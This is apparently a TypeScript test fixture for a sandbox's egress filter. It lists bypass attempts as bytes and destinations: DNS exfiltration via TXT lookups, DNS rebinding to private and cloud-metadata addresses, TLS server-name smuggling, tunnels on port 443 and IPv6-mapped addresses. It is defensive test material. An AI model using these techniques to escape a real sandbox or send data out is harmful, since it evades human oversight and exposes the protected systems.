/**
 * Lists attempts of a guest to bypass its egress policy, as data: bytes and their destination. `egress-probe.pl` sends
 * them, in a network namespace or in a guest. The policy is {@link ATTEMPTED_POLICY}; the names and servers are those
 * of `egress-lab.ts`.
 */
import type { EgressPolicy } from '../../src/shared/egress-policy.ts';
import { type Attempt, EVIL, GOOD, tcp, text, udp } from './egress-attempt.ts';
import { get, HTTP_ATTEMPTS } from './egress-http-attempts.ts';
import { PACKET_ATTEMPTS } from './egress-packets.ts';
import { extension, hello, helloFor, inRecords, number, serverName } from './tls-hello.ts';

export const ATTEMPTED_POLICY: EgressPolicy = {
  mode: 'allow',
  allow: [
    ...['allowed.test', '*.wild.test', 'chain.test', 'rebind.test', 'loop.test', 'meta.test', 'mixed.test'],
    ...['inward.test', 'self.test', 'db.test:5432', '203.0.113.20:8080'],
  ],
};

const LITERAL = '203.0.113.20';
const FOREIGN = '203.0.113.53';
const GATEWAY = '10.0.2.2';
const RESOLVER = '10.0.2.3';

const EVIL_BYTES = Buffer.from([203, 0, 113, 66]);

export function dnsQuery(name: string, type = 1, dns_class = 1): Buffer {
  const labels = name.split('.').filter((label) => label !== '');
  return Buffer.concat([
    Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
    ...labels.map((label) => Buffer.concat([number(1, label.length), Buffer.from(label, 'latin1')])),
    Buffer.from([0]),
    number(2, type),
    number(2, dns_class),
  ]);
}

function framed(message: Buffer): Buffer {
  return Buffer.concat([number(2, message.length), message]);
}

/** A look-up at the guest's resolver. In mode open the host's resolver answers, which this lab does not have. */
const lookUp = (name: string, asked: string, forbidden: Buffer, type = 1): Attempt => ({
  ...udp(name, RESOLVER, 53, [dnsQuery(asked, type)], false),
  forbidden,
});

const ask = (name: string, send: readonly Buffer[]): Attempt => ({
  ...udp(name, RESOLVER, 53, send, false),
  forbidden: EVIL_BYTES,
});

function changed(message: Buffer, at: number, byte: number): Buffer {
  const copy = Buffer.from(message);
  copy[at] = byte;
  return copy;
}

function twoQuestions(first: string, second: string): Buffer {
  return changed(Buffer.concat([dnsQuery(first), dnsQuery(second).subarray(12)]), 5, 2);
}

/** A name that is a pointer to itself, and a type and class. */
const POINTER = Buffer.from([0xc0, 0x0c, 0, 1, 0, 1]);

const LOOK_UPS: readonly Attempt[] = [
  lookUp('look-up of a name that is not allowed', 'evil.test', EVIL_BYTES),
  lookUp('look-up in capitals with a final dot', 'EVIL.TEST.', EVIL_BYTES),
  lookUp('look-up of a name that ends like an allowed one', 'notallowed.test', EVIL_BYTES),
  lookUp('look-up below an allowed name', 'data.allowed.test', EVIL_BYTES),
  lookUp('look-up of the name above a wildcard', 'wild.test', Buffer.from([203, 0, 113, 50])),
  lookUp('look-up of a name with a NUL', 'allowed.test\u0000.evil.test', EVIL_BYTES),
  lookUp('look-up of data in a TXT record', 'secret-data.evil.test', Buffer.from('REACHED'), 16),
  lookUp('look-up of all records', 'evil.test', EVIL_BYTES, 255),
  lookUp('look-up of an HTTPS record with ECH', 'evil.test', EVIL_BYTES, 65),
  lookUp('rebinding to a private address', 'rebind.test', Buffer.from([10, 0, 0, 5])),
  lookUp('rebinding to loopback', 'loop.test', Buffer.from([127, 0, 0, 1])),
  lookUp('rebinding to the metadata service', 'meta.test', Buffer.from([169, 254, 169, 254])),
  lookUp('rebinding to the host', 'self.test', Buffer.from([198, 51, 100, 1])),
  lookUp('a private address beside a public one', 'mixed.test', Buffer.from([192, 168, 7, 7])),
  lookUp('a CNAME to a private address', 'inward.test', Buffer.from([10, 0, 0, 9])),
  lookUp('the target of an allowed CNAME, by itself', 'end.evilchain.test', Buffer.from([203, 0, 113, 40])),
  lookUp('look-up of a name with an underscore', '_evil._tcp.evil.test', EVIL_BYTES),
  lookUp('look-up of an A-label', 'xn--evil-9cd.evil.test', EVIL_BYTES),
  lookUp('look-up of a name with other bytes', 'allowed.test\u00ad.evil.test', EVIL_BYTES),
  lookUp('look-up of a zone', 'evil.test', EVIL_BYTES, 252),
  ask('look-up in another class', [dnsQuery('evil.test', 1, 3)]),
  ask('two questions in one message', [twoQuestions('allowed.test', 'evil.test')]),
  ask('an answer instead of a question', [changed(dnsQuery('evil.test'), 2, 0x81)]),
  ask('an update instead of a question', [changed(dnsQuery('evil.test'), 2, 0x28)]),
  ask('a pointer in the question', [Buffer.concat([dnsQuery('').subarray(0, 12), POINTER])]),
  {
    ...tcp(
      'a look-up by TCP, behind one that is allowed',
      RESOLVER,
      53,
      [Buffer.concat([framed(dnsQuery('allowed.test')), framed(dnsQuery('evil.test'))])],
      false,
    ),
    forbidden: EVIL_BYTES,
  },
  tcp('data to port 53 that is no look-up, by TCP', EVIL, 53, text('evil data')),
  { ...udp('a foreign resolver', FOREIGN, 53, [dnsQuery('evil.test')]), forbidden: Buffer.from('REACHED') },
  {
    ...tcp('a foreign resolver by TCP', FOREIGN, 53, [framed(dnsQuery('evil.test'))]),
    forbidden: Buffer.from('REACHED'),
  },
  udp('a foreign resolver on another port', FOREIGN, 5353, [dnsQuery('evil.test')]),
  udp('data to port 53 that is no look-up', EVIL, 53, text('evil data')),
  tcp('DNS over TLS', FOREIGN, 853, [helloFor('dns.evil.test')]),
  tcp('DNS over TLS with an allowed name', FOREIGN, 853, [helloFor('allowed.test')]),
  udp('DNS over QUIC', FOREIGN, 853, text('evil')),
  tcp('DNS over HTTPS', FOREIGN, 443, [helloFor('dns.evil.test')]),
  tcp('DNS over HTTPS with an allowed name', FOREIGN, 443, [helloFor('allowed.test')]),
  tcp('DNS over HTTP', FOREIGN, 80, text('GET /dns-query?dns=evil HTTP/1.1\r\nHost: allowed.test\r\n\r\n')),
];

const ECH = extension(
  0xfe0d,
  Buffer.concat([
    Buffer.from([0, 0, 1, 0, 1, 7, 0, 32]),
    Buffer.alloc(32, 9),
    number(2, 16),
    Buffer.alloc(16, 5),
  ]),
);
const evilHello = helloFor('evil.test');
const bytesOf = (bytes: Buffer): Buffer[] => [...bytes].map((byte) => Buffer.from([byte]));

const TLS: readonly Attempt[] = [
  tcp('a name that is not allowed', EVIL, 443, [evilHello]),
  tcp('a name that is not allowed, at an allowed address', GOOD, 443, [evilHello]),
  tcp('an allowed name at another address', EVIL, 443, [helloFor('allowed.test')]),
  tcp('an allowed name in capitals at another address', EVIL, 443, [helloFor('ALLOWED.TEST')]),
  tcp('no name', EVIL, 443, [inRecords(hello([]))]),
  tcp('no name, at an allowed address', GOOD, 443, [inRecords(hello([extension(10, number(2, 0))]))]),
  tcp('an empty name', GOOD, 443, [helloFor('')]),
  tcp('an address as name', EVIL, 443, [helloFor(EVIL)]),
  tcp('a name with a NUL', GOOD, 443, [helloFor('allowed.test\u0000.evil.test')]),
  tcp('a name with a final dot', GOOD, 443, [helloFor('evil.test.')]),
  tcp('another name with a final dot at its address', EVIL, 443, [helloFor('allowed.test.')]),
  tcp('a name in mixed case', GOOD, 443, [helloFor('eViL.TeSt')]),
  tcp('a name with an underscore', GOOD, 443, [helloFor('_evil.allowed.test')]),
  tcp('an A-label that looks like the allowed name', GOOD, 443, [helloFor('xn--evil-llowed-2ve.test')]),
  tcp('a name with other bytes', GOOD, 443, [helloFor('allowed.test\u00ad.evil.test')]),
  tcp('a name with a port', GOOD, 443, [helloFor('evil.test:443')]),
  tcp('the target of an allowed CNAME', '203.0.113.40', 443, [helloFor('end.evilchain.test')]),
  tcp('a hello in many records', GOOD, 443, [inRecords(hello([serverName('evil.test')]), 7)]),
  tcp('a record without bytes in front', GOOD, 443, [Buffer.from([22, 3, 1, 0, 0]), evilHello]),
  tcp('an alert in front', GOOD, 443, [Buffer.from([21, 3, 1, 0, 2, 1, 0]), evilHello]),
  tcp('a longer length than the hello has', GOOD, 443, [changed(evilHello, 8, 255), ...text('evil')]),
  tcp('two names', GOOD, 443, [inRecords(hello([serverName('allowed.test', 'evil.test')]))]),
  tcp('two names, the other first', GOOD, 443, [inRecords(hello([serverName('evil.test', 'allowed.test')]))]),
  tcp('two extensions', GOOD, 443, [inRecords(hello([serverName('allowed.test'), serverName('evil.test')]))]),
  tcp('bytes behind the extensions', GOOD, 443, [
    inRecords(hello([serverName('allowed.test')], serverName('evil.test'))),
  ]),
  tcp('the name above a wildcard', '203.0.113.50', 443, [helloFor('wild.test')]),
  tcp('a name that ends like a wildcard', '203.0.113.50', 443, [helloFor('evilwild.test')]),
  tcp('a hello in segments of one byte', EVIL, 443, bytesOf(evilHello)),
  tcp('a hello in records of one byte', EVIL, 443, [inRecords(hello([serverName('evil.test')]), 1)]),
  tcp('a hello cut inside of its name', GOOD, 443, [evilHello.subarray(0, -4), evilHello.subarray(-4)]),
  tcp('an allowed hello in records of one byte, at another address', EVIL, 443, [
    inRecords(hello([serverName('allowed.test')]), 1),
  ]),
  tcp('ECH with another outer name', GOOD, 443, [inRecords(hello([serverName('evil.test'), ECH]))]),
  tcp('ECH with an allowed outer name at another address', EVIL, 443, [
    inRecords(hello([serverName('allowed.test'), ECH])),
  ]),
  tcp('ECH without an outer name', GOOD, 443, [inRecords(hello([ECH]))]),
  tcp('an SSLv2 hello', GOOD, 443, [Buffer.from('802e0103010015000000100000', 'hex'), ...text('evil')]),
  tcp('a record of another type first', GOOD, 443, [Buffer.from([23, 3, 3, 0, 4]), ...text('evil')]),
  tcp('SSH on port 443', EVIL, 443, text('SSH-2.0-evil\r\n')),
  tcp('SSH on port 443 of an allowed address', GOOD, 443, text('SSH-2.0-evil\r\n')),
  tcp('HTTP on port 443', GOOD, 443, text('GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n')),
  tcp('a tunnel on port 443', EVIL, 443, text('\u0001\u0002evil')),
  tcp('TLS on another port of an allowed name', GOOD, 8443, [helloFor('allowed.test')]),
  tcp('TLS on port 80', GOOD, 80, [evilHello]),
  udp('QUIC', EVIL, 443, text('evil')),
  udp('QUIC to an allowed address', GOOD, 443, text('evil')),
];

/** Its server asks for another hello (egress-internet.ts). */
const RETRY_HELLO = helloFor('retry.wild.test');
const EARLY_DATA = Buffer.from([20, 3, 3, 0, 1, 1, 23, 3, 3, 0, 4, 9, 9, 9, 9]);
const RETRIES: readonly Attempt[] = (
  [
    ['of another name', [evilHello]],
    ['of another name, in the segment of the first', null],
    ['of another name, behind early data', [EARLY_DATA, evilHello]],
    ['of another name, in records of some bytes', [inRecords(hello([serverName('evil.test')]), 7)]],
    ['of another name, in segments of one byte', bytesOf(evilHello)],
    ['of two names', [inRecords(hello([serverName('retry.wild.test', 'evil.test')]))]],
    ['without a name', [inRecords(hello([extension(21, Buffer.from('evil'))]))]],
    ['that is none', text('evil')],
  ] as const
).map(([what, second]) =>
  tcp(
    `a second hello ${what}`,
    '203.0.113.50',
    443,
    second ? [RETRY_HELLO, ...second] : [Buffer.concat([RETRY_HELLO, EARLY_DATA, evilHello])],
  ),
);

const PLACES: readonly Attempt[] = [
  tcp('another port of the name server', '203.0.113.2', 443, [helloFor('allowed.test')], false),
  tcp('the next hop', '198.51.100.2', 443, [helloFor('allowed.test')]),
  udp('another protocol to an address that is allowed with a port', LITERAL, 5000, text('evil')),
  tcp('a Teredo address', '2001:0:cb00:7142::1', 443, [helloFor('allowed.test')], false),
  tcp('an IPv4-compatible address', '::203.0.113.66', 443, [helloFor('allowed.test')], false),

  ...[22, 25, 5432, 8080].map((port) => tcp(`port ${port} of an address`, EVIL, port, text('evil'))),
  ...[22, 5432, 8080].map((port) => tcp(`port ${port} of an allowed name`, GOOD, port, text('evil'))),
  ...[22, 443, 80].map((port) =>
    tcp(`another port (${port}) of an allowed address`, LITERAL, port, text('evil')),
  ),
  tcp('another port of a name with a port', '203.0.113.30', 22, text('evil')),
  tcp('TLS to a name that has another port', '203.0.113.30', 443, [helloFor('db.test')]),
  ...[123, 4789, 5000].map((port) => udp(`UDP to port ${port}`, EVIL, port, text('evil'))),
  udp('UDP to an allowed name', GOOD, 5000, text('evil')),
  ...[80, 443, 22].map((port) =>
    tcp(`a private address, port ${port}`, '192.168.7.7', port, [helloFor('allowed.test')], false),
  ),
  udp('a private resolver', '192.168.7.7', 53, [dnsQuery('evil.test')], false),
  tcp('the metadata service', '169.254.169.254', 80, text(get('169.254.169.254')), false),
  tcp('the metadata service by an allowed host', '169.254.169.254', 80, text(get('meta.test')), false),
  tcp('a rebinding name', '10.0.0.5', 443, [helloFor('rebind.test')], false),
  tcp('the gateway', GATEWAY, 22, text('evil'), false),
  tcp('the proxy itself', GATEWAY, 7_443, [helloFor('allowed.test')], false),
  tcp("the proxy's resolver itself", GATEWAY, 7_053, [framed(dnsQuery('evil.test'))], false),
  tcp("the host's public address", '198.51.100.1', 443, [helloFor('self.test')], false),
  tcp("the host's public address by HTTP", '198.51.100.1', 80, text(get('self.test')), false),
  ...[80, 443, 22].map((port) =>
    tcp(`an IPv6 address, port ${port}`, '2001:db8:9::66', port, [helloFor('allowed.test')], false),
  ),
  udp('a resolver at an IPv6 address', '2001:db8:9::66', 53, [dnsQuery('evil.test')], false),
  tcp('a mapped address', '::ffff:203.0.113.66', 443, [helloFor('allowed.test')]),
  tcp('a 6to4 address', '2002:cb00:7142::1', 443, [helloFor('allowed.test')], false),
  tcp('a NAT64 address', '64:ff9b::cb00:7142', 443, [helloFor('allowed.test')], false),
];

const PING = Buffer.from('0800f7ff0000000165766c00', 'hex');

/** They do not say where they went; the lab counts packets. */
const PACKETS: readonly Attempt[] = [
  { ...tcp('ICMP', EVIL, 1, [PING], false), kind: 'icmp' },
  { ...tcp('ICMP to an allowed name', GOOD, 1, [PING], false), kind: 'icmp' },
  ...(
    [
      ['GRE', 47],
      ['IP in IP', 4],
      ['IPv6 in IP', 41],
      ['ESP', 50],
      ['SCTP', 132],
    ] as const
  ).map(
    ([name, protocol]): Attempt => ({
      ...tcp(name, EVIL, protocol, text('evil raw packet'), false),
      kind: 'raw',
    }),
  ),
];

export const ATTEMPTS: readonly Attempt[] = [
  ...LOOK_UPS,
  ...TLS,
  ...RETRIES,
  ...HTTP_ATTEMPTS,
  ...PLACES,
  ...PACKETS,
  ...PACKET_ATTEMPTS,
];

/** Lines for `egress-probe.pl`. */
export function probeLines(attempts: readonly Attempt[], wait_ms: number): string {
  return attempts
    .map(({ kind, address, port, send }, id) => {
      const hex = send.map((part) => part.toString('hex')).join(',');
      return `${id} ${kind} ${address} ${port} ${wait_ms} ${hex}\n`;
    })
    .join('');
}
